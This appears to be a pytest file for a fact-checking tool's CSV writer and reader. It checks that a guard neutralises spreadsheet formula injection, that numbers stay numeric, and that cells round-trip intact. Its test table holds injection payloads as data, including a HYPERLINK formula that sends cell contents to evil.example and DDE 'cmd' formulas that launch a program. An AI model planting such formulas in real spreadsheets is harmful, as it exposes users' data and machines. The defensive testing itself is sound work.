"""The formula guard and the CSV writer, cell by cell: what a spreadsheet would run is neutralised,
numbers stay numbers, and everything reads back exactly (RFC 4180, UTF-8 with a BOM)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factcheck.editorial import csvsafe
from factcheck.editorial.export import Column, format_row, write_csv
from factcheck.errors import ValidationError

# (what a text column holds, the cell as written); grouped by where such text comes from
INJECTION_TABLE = [
    # the OWASP first characters
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-5%", "'-5%"),
    ("-5", "'-5"),  # in a *text* column a bare "-5" is guarded too: it is text there
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    # planted in scraped pages
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@@", "'@@"),
    # the full-width forms, which Excel with an East Asian input method runs like the ASCII ones
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－5", "'－5"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("'＝1+1", "''＝1+1"),
    ("'＠", "''＠"),
    ("1＝1", "1＝1"),  # only at the start
    ("＇＝1", "＇＝1"),  # a full-width apostrophe is text, not the guard
    # already apostrophed: one more, so that import gives back exactly what was stored
    ("'=1+1", "''=1+1"),
    ("''-1", "'''-1"),
    ("'quoted'", "'quoted'"),
    ("it's", "it's"),
    ("'", "'"),
    # harmless text stays as it is
    ("", ""),
    ("405B parameters", "405B parameters"),
    ("约 50% 便宜", "约 50% 便宜"),
    (" =1+1", " =1+1"),  # a leading space is not in OWASP's list
    ("a=b", "a=b"),
]


@pytest.mark.parametrize(("text", "cell"), INJECTION_TABLE)
def test_text_cells_are_guarded_and_unguarded_exactly(text: str, cell: str) -> None:
    assert csvsafe.guard(text) == cell
    assert csvsafe.unguard(cell) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        ("-0.5", "-0.5"),
        ("-405000000000", "-405000000000"),
        ("0.0000035", "0.0000035"),
        ("1e-7", "1e-7"),
        (".5", ".5"),
        (405, "405"),
        (None, ""),
        ("-1+2", "'-1+2"),  # not a number: guarded like text
        ("=1", "'=1"),
        ("12abc", "12abc"),
    ],
)
def test_number_cells_stay_plain_numbers(value: object, cell: str) -> None:
    assert csvsafe.number_cell(value) == cell


def test_timestamps_are_utc_iso_8601() -> None:
    eastern = timezone(timedelta(hours=8))
    moment = datetime(2024, 7, 24, 2, 30, 15, 999_999, tzinfo=eastern)
    assert csvsafe.timestamp_cell(moment) == "2024-07-23T18:30:15Z"
    assert csvsafe.date_cell(date(2024, 7, 23)) == "2024-07-23"
    with pytest.raises(ValueError):
        csvsafe.timestamp_cell(datetime(2024, 7, 23))


COLUMNS = (
    Column("text", "text", ""),
    Column("number", "number", ""),
    Column("when", "timestamp", ""),
)

AWKWARD = [
    'say "hi"',
    "a,b,c",
    "line 1\nline 2",
    "line 1\r\nline 2",
    "\r",
    "=1,2",
    "-3",
    "trailing space ",
    "我们发布了三个模型……4050 亿、700 亿和 80 亿个参数",
    "emoji 🧪 and ＝ full width",
]


def _written(rows: list[list[str]], *, bom: bool = True) -> str:
    buffer = io.StringIO(newline="")
    write_csv(buffer, COLUMNS, rows, bom=bom)
    return buffer.getvalue()


def test_rfc_4180_quoting_and_crlf() -> None:
    text = _written([["a,b", "1", ""], ['say "hi"', "-2", ""], ["x\ny", "", ""]], bom=False)
    assert text == 'text,number,when\r\n"a,b",1,\r\n"say ""hi""",-2,\r\n"x\ny",,\r\n'


def test_bom_only_when_asked() -> None:
    assert _written([]).startswith("\ufefftext,")
    assert _written([], bom=False).startswith("text,")


def test_awkward_cells_read_back_intact_through_utf8_sig(tmp_path: Path) -> None:
    moment = datetime(2024, 7, 23, 12, 0, tzinfo=UTC)
    rows = [format_row(COLUMNS, (text, -index, moment)) for index, text in enumerate(AWKWARD)]
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_csv(handle, COLUMNS, rows)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        back = list(csv.reader(handle))
    assert back[0] == ["text", "number", "when"]  # no BOM left on the first header
    assert [csvsafe.unguard(r[0]) for r in back[1:]] == AWKWARD
    assert [r[1] for r in back[1:]] == [str(-i) for i in range(len(AWKWARD))]
    assert {r[2] for r in back[1:]} == {"2024-07-23T12:00:00Z"}
    assert all(not r[0] or r[0][0] not in "=+-@\t\r\n" for r in back[1:])


@given(st.text())
def test_guard_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    cell = csvsafe.guard(text)
    assert csvsafe.unguard(cell) == text
    assert cell[:1] not in csvsafe.DANGEROUS_FIRST


# -- reading back: import-csv's reader ---------------------------------------------------------


def _claims_csv(*rows: list[str]) -> io.StringIO:
    from factcheck.editorial.export import EDITABLE

    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(EDITABLE)
    for row in rows:
        writer.writerow(row + [""] * (len(EDITABLE) - len(row)))
    return io.StringIO(buffer.getvalue(), newline="")


def test_reader_takes_a_cell_far_over_the_csv_default_and_restores_the_limit() -> None:
    from factcheck.editorial.csvimport import read_rows

    before = csv.field_size_limit()
    statement = "约" * 1_000_001  # over fields.MAX_LONG_TEXT_CHARS: the reader is not the judge
    _, rows = read_rows(_claims_csv(["a", statement]))
    assert rows[0][1]["statement"] == statement
    assert csv.field_size_limit() == before


def test_reader_refuses_a_cell_over_its_bound_naming_the_row() -> None:
    from factcheck.editorial.csvimport import read_rows

    handle = _claims_csv(["a", "x"], ["b", "x" * (csvsafe.MAX_CELL_CHARS + 1)])
    with pytest.raises(ValidationError) as raised:
        read_rows(handle)
    assert str(raised.value).startswith("row 3 (line 3): not CSV: field larger than field limit")


def test_row_numbers_are_spreadsheet_rows_across_multi_line_cells() -> None:
    from factcheck.editorial.csvimport import read_rows

    handle = _claims_csv(["a", "one\r\ntwo\r\nthree"], ["b", "x"], [], ["c", "y"], ["d", "z"])
    _, rows = read_rows(handle)
    # header 1, a 2 (three lines), b 3, an empty row 4, c 5, d 6
    assert [(number, cells["key"]) for number, cells in rows] == [
        (2, "a"),
        (3, "b"),
        (5, "c"),
        (6, "d"),
    ]
    text = handle.getvalue() + "e,short\r\n"
    with pytest.raises(ValidationError, match=r"^row 7: 2 cells, the header has 21$"):
        read_rows(io.StringIO(text, newline=""))
